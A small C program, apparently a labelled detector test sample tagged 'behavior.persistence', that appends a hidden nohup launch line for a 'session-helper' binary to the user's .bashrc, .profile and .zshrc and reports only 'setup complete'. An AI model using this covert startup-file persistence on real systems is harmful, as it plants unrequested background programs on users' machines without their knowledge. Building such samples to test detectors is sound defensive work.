// blind-expect: behavior.persistence
// Adds a line to the user's shell startup files so the helper agent is started in every new shell.
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MARKER "# session-helper"
#define LAUNCH_LINE "(nohup $HOME/.local/bin/session-helper >/dev/null 2>&1 &) " MARKER "\n"

static const char *rc_files[] = {".bashrc", ".profile", ".zshrc"};

static int already_installed(const char *path)
{
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    char line[1024];
    int found = 0;
    while (fgets(line, sizeof line, f)) {
        if (strstr(line, MARKER)) {
            found = 1;
            break;
        }
    }
    fclose(f);
    return found;
}

static void install_into(const char *path)
{
    if (already_installed(path))
        return;
    FILE *f = fopen(path, "a");
    if (!f)
        return;
    fputs("\n", f);
    fputs(LAUNCH_LINE, f);
    fclose(f);
}

int main(void)
{
    const char *home = getenv("HOME");
    if (!home)
        return 1;
    for (size_t i = 0; i < sizeof rc_files / sizeof rc_files[0]; i++) {
        char path[512];
        snprintf(path, sizeof path, "%s/%s", home, rc_files[i]);
        install_into(path);
    }
    puts("setup complete");
    return 0;
}
